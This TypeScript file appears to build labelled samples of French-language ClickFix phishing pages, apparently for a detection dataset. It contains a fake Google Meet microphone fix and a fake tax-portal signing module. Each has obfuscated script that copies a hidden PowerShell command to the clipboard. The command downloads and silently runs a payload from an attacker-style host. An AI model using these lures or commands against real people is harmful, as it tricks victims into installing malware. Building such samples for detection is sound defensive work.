import { type Entry } from '../entry.js';
import { doc, logos, b64, codesOf, reversed } from '../parts/xe-kit.js';
import { jsRoute } from '../parts/e-bin.js';

/**
 * ClickFix in French: fake "vérification humaine" CAPTCHAs, document and meeting "fixes", a tax-portal
 * signing module and a bank certificate update, each putting a command on the clipboard and telling the
 * visitor to press Win+R (or open Terminal), paste and press Entrée.
 */

const meetMicFix: Entry = (() => {
  const host = 'meet-google.salle-reunion.live';
  return {
    id: 'xe-clickfix-google-meet-micro-bloque',
    label: 'clickfix',
    kind: 'clickfix-meeting-fix',
    url: `https://${host}/mvx-qapr-kte`,
    body: doc({
      title: 'Meet - mvx-qapr-kte',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:'Google Sans',Roboto,Arial}.v{max-width:720px;margin:60px auto;display:flex;gap:30px;align-items:center}.cam{flex:1;height:300px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center}.p{flex:0 0 300px}.al{background:#fff;color:#202124;border-radius:8px;padding:18px;margin-top:14px}.al code{display:block;background:#f1f3f4;padding:8px;font-size:12px;margin:8px 0;word-break:break-all}.bt{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px}`,
      body: `<div class="v"><div class="cam">Caméra désactivée</div><div class="p"><h2>Prêt à participer ?</h2><p>Réunion : Comité de crédit – Agence Plateau</p>
<div class="al"><b>Problème avec votre micro</b><p>Votre navigateur bloque l'accès au micro et à la caméra. Pour résoudre le problème :</p><ol><li>Cliquez sur « Résoudre »</li><li>Appuyez sur <b>Win + R</b></li><li>Appuyez sur <b>Ctrl + V</b> puis <b>Entrée</b></li></ol><button class="bt" id="r">Résoudre</button></div></div></div>
<script src="/static/meet-fix.js"></script>`,
    }),
    routes: {
      [`${host}/static/meet-fix.js`]: jsRoute(`(function(){var p=[${codesOf('powershell -NoP -W Hidden -C "Start-BitsTransfer -Source https://meet-google.salle-reunion.live/static/audiofix.zip -Destination $env:TEMP\\a.zip; Expand-Archive $env:TEMP\\a.zip $env:TEMP\\af -Force; Start-Process $env:TEMP\\af\\AudioFix.exe"')}];
document.getElementById('r').addEventListener('click',function(){var s=String.fromCharCode.apply(null,p);navigator.clipboard.writeText(s);this.textContent='Copié – suivez les étapes'})})();`),
    },
  };
})();

const dgiSignatureModule: Entry = (() => {
  const cmd = `powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command "Invoke-WebRequest -Uri 'https://simpl-dgi-signature.com/module/SignDGI.msi' -OutFile $env:PUBLIC\\SignDGI.msi; msiexec /i $env:PUBLIC\\SignDGI.msi /qn"`;
  return {
    id: 'xe-clickfix-portail-fiscal-module-signature',
    label: 'clickfix',
    kind: 'clickfix-portal-module',
    url: 'https://simpl-dgi-signature.com/teledeclaration/tva',
    body: doc({
      title: 'SIMPL-TVA – Module de signature électronique',
      css: `body{margin:0;font-family:Arial;background:#f0f2f5}.h{background:#fff;padding:10px 20px;border-bottom:3px solid #c1272d}.c{max-width:600px;margin:30px auto;background:#fff;padding:24px}.step{display:flex;gap:12px;margin:12px 0}.step b{background:#006233;color:#fff;border-radius:50%;width:26px;height:26px;display:flex;align-items:center;justify-content:center;flex:0 0 26px}pre{background:#1e1e1e;color:#dcdcdc;padding:10px;font-size:11px;white-space:pre-wrap;display:none}button{background:#006233;color:#fff;border:0;padding:10px 22px}`,
      body: `<div class="h">${logos.dgiMa(40)}</div><div class="c"><h3>Télédéclaration TVA – Signature électronique requise</h3><p>Votre déclaration du mois d'octobre est prête. Le module de signature (Barid eSign) n'a pas été détecté sur ce poste. Installez-le pour signer et déposer votre déclaration avant l'échéance.</p>
<div class="step"><b>1</b><div>Cliquez sur <i>Copier la commande d'installation</i>.</div></div><div class="step"><b>2</b><div>Ouvrez la fenêtre Exécuter : touche <b>Windows + R</b>.</div></div><div class="step"><b>3</b><div>Collez (<b>Ctrl + V</b>) et validez avec <b>Entrée</b>. L'installation est silencieuse.</div></div>
<button id="cp">Copier la commande d'installation</button><pre id="pr"></pre></div>
<script>var q=${JSON.stringify(reversed(b64(cmd)))};document.getElementById('cp').onclick=function(){var c=atob(q.split('').reverse().join(''));navigator.clipboard.writeText(c);this.textContent='Commande copiée ✔ – Windows + R, Ctrl + V, Entrée'};</script>`,
    }),
  };
})();

export const entries: Entry[] = [meetMicFix, dgiSignatureModule];
